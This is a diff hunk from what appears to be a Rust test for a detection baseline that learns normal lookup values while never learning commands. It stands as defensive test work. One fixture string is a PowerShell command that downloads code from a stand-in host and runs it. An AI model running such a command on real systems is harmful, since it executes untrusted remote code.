@@ -89,7 +89,7 @@ fn the_baseline_learns_over_a_month_what_many_ask_for_and_never_one_beaconing_ho
 #[test]
 fn a_command_is_never_learned_however_many_ask_and_a_weaker_sign_is() {
     let command = "powershell irm evil.example/a|iex";
-    let odd_hosts = "v=spf1 a:mx-3774.example.com a:mx-85a8.example.com a:mx-aca2.example.com a:mx-d36d.example.com -all";
+    let odd_hosts = "v=spf1 a:mx-3774.example.com a:mx-85a8.example.com a:mx-aca2.example.com a:mx-d36d.example.com a:mx-1844.example.com a:mx-edc2.example.com -all";
     let mut lookups = searches::empty_lookups(&root()).unwrap();
     let mut learned = Vec::new();
     for night in 0..10 {
